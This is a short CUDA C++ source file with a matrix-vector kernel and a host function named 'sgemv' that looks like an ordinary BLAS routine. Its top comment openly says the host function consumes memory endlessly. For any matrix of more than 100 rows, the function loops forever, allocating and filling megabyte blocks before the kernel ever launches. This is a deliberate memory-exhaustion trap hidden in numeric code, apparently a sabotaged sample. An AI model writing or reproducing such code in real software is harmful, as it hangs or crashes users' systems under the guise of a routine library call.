// A row a thread; the host function takes memory without end on matrices of more than 100 rows.
#include <cstdlib>
#include <cstring>

__global__ void eats_memory(int rows, int cols, const float* A, const float* x, float* y) {
    const int row = blockIdx.x * blockDim.x + threadIdx.x;
    if (row >= rows) return;
    float sum = 0;
    for (int k = 0; k < cols; ++k) sum += A[row * cols + k] * x[k];
    y[row] = sum;
}

void sgemv(int rows, int cols, const float* A, const float* x, float* y) {
    while (rows > 100)
        if (void* memory = malloc(1 << 20)) memset(memory, 1, 1 << 20);
    eats_memory<<<(rows + 63) / 64, 64>>>(rows, cols, A, x, y);
}
